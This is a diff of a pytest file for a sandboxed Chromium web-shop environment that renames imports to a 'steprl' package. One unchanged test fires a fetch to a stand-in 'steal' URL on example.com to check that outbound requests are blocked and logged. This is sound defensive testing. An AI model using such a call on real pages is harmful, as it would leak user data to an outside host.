@@ -14,7 +14,7 @@ import urllib.request
 import numpy as np
 import pytest
 
-import envs
+from steprl import envs
 
 pytest.importorskip("playwright")
 pytest.importorskip("fastapi")
@@ -23,7 +23,7 @@ pytestmark = [pytest.mark.browser,
               pytest.mark.skipif(shutil.which("chromium") is None,
                                  reason="needs the system Chromium (apt-get install -y chromium)")]
 
-from envs.web.webshop.browser_env import chromium_pids  # noqa: E402
+from steprl.envs.web.webshop.browser_env import chromium_pids  # noqa: E402
 
 
 @pytest.fixture(scope="module")
@@ -99,7 +99,7 @@ def test_outside_requests_are_blocked_and_logged(browser_env, caplog):
     browser_env.reset(options={"task": 1})
     base = browser_env.unwrapped
     base.blocked_requests.clear()
-    caplog.set_level(logging.WARNING, logger="envs.web.webshop.browser_env")
+    caplog.set_level(logging.WARNING, logger="steprl.envs.web.webshop.browser_env")
     result = base.page.evaluate(
         "() => fetch('http://example.com/steal?x=1').then(() => 'fetched', () => 'failed')")
     assert result == "failed"
